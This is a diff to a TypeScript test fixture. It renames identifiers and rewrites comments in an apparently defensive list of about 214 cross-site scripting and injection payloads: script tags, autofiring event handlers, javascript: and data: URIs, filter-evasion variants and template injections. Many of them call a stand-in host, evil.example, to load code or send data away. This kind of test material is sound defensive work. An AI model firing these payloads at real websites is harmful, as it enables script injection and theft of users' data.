@@ -1,10 +1,10 @@
-/** Runs when a payload does; nothing on any screen may ever set it. */
+/** The code of every payload; no screen may execute it. */
 const RUN = 'globalThis.__ran=1';
-const AWAY = 'https://evil.example/taken';
+const EXTERNAL = 'https://evil.example/taken';
 
 const SINKS = [
   `<script>${RUN}</script>`,
-  `<script src="${AWAY}"></script>`,
+  `<script src="${EXTERNAL}"></script>`,
   `<script type="module">${RUN}</script>`,
   `<scr<script>ipt>${RUN}</scr</script>ipt>`,
   `<svg><script>${RUN}</script></svg>`,
@@ -13,18 +13,18 @@ const SINKS = [
   `<iframe src="javascript:parent.__ran=1"></iframe>`,
   `<object data="javascript:${RUN}"></object>`,
   `<embed src="data:text/html,<script>parent.__ran=1</script>">`,
-  `<base href="${AWAY}/">`,
-  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
-  `<link rel="stylesheet" href="${AWAY}.css">`,
-  `<style>@import '${AWAY}.css';*{background:url(${AWAY})}</style>`,
-  `<form action="${AWAY}"><button autofocus onfocus="${RUN}">x</button></form>`,
-  `<img src="${AWAY}.png">`,
-  `<img srcset="${AWAY}.png 1x">`,
-  `<video poster="${AWAY}.png"><source src="${AWAY}.mp4"></video>`,
-  `<audio src="${AWAY}.mp3" autoplay></audio>`,
-  `<div style="background:url(${AWAY})">x</div>`,
-  `<table background="${AWAY}"><td>x</table>`,
-  `<portal src="${AWAY}"></portal>`,
+  `<base href="${EXTERNAL}/">`,
+  `<meta http-equiv="refresh" content="0;url=${EXTERNAL}">`,
+  `<link rel="stylesheet" href="${EXTERNAL}.css">`,
+  `<style>@import '${EXTERNAL}.css';*{background:url(${EXTERNAL})}</style>`,
+  `<form action="${EXTERNAL}"><button autofocus onfocus="${RUN}">x</button></form>`,
+  `<img src="${EXTERNAL}.png">`,
+  `<img srcset="${EXTERNAL}.png 1x">`,
+  `<video poster="${EXTERNAL}.png"><source src="${EXTERNAL}.mp4"></video>`,
+  `<audio src="${EXTERNAL}.mp3" autoplay></audio>`,
+  `<div style="background:url(${EXTERNAL})">x</div>`,
+  `<table background="${EXTERNAL}"><td>x</table>`,
+  `<portal src="${EXTERNAL}"></portal>`,
   `<template><img src=x onerror="${RUN}"></template>`,
   `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
   `<textarea autofocus onfocus="${RUN}"></textarea>`,
@@ -42,14 +42,14 @@ const SINKS = [
   `<a href="data:text/html,<script>${RUN}</script>">clique</a>`,
   `[clique](javascript:${RUN})`,
   `[clique](data:text/html;base64,PHNjcmlwdD4x)`,
-  `![x](${AWAY}.png)`,
-  `[x]: ${AWAY}`,
+  `![x](${EXTERNAL}.png)`,
+  `[x]: ${EXTERNAL}`,
   `javascript:${RUN}`,
   `java\tscript:${RUN}`,
   `JaVaScRiPt:${RUN}`,
   `vbscript:${RUN}`,
   `data:text/html,<script>${RUN}</script>`,
-  AWAY,
+  EXTERNAL,
   `//evil.example/taken`,
   `{{constructor.constructor('${RUN}')()}}`,
   `\${${RUN}}`,
@@ -75,12 +75,12 @@ const SINKS = [
   `<img src=x onerror=&#97;lert(1)>`,
 ];
 
-/** Every element that can run something by itself, with every handler that runs without a hand. */
+/** Elements and handlers that execute without user interaction. */
 const ELEMENTS = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'input autofocus'];
 const HANDLERS = ['onerror', 'onload', 'onfocus', 'onloadstart', 'onanimationstart', 'onpageshow'];
 const SPACES = [' ', '/', '\n', '\f'];
 
-/** 214 texts, each of which would run, load or lead away if a screen took it for more than a text. */
+/** 214 texts, each of which would execute, load or navigate if it were not rendered as text. */
 export const PAYLOADS: readonly string[] = [
   ...SINKS,
   ...ELEMENTS.flatMap((element) =>
@@ -90,8 +90,9 @@ export const PAYLOADS: readonly string[] = [
   ),
 ];
 
-/** Gives the next `count` payloads, the first again after the last. */
-export function payloadWheel(): (count: number) => string {
-  let at = 0;
-  return (count) => Array.from({ length: count }, () => PAYLOADS[at++ % PAYLOADS.length]).join(' ');
+/** @returns a function that returns the next `count` payloads, in a cycle. */
+export function createPayloadCycle(): (count: number) => string {
+  let index = 0;
+  return (count) =>
+    Array.from({ length: count }, () => PAYLOADS[index++ % PAYLOADS.length]).join(' ');
 }
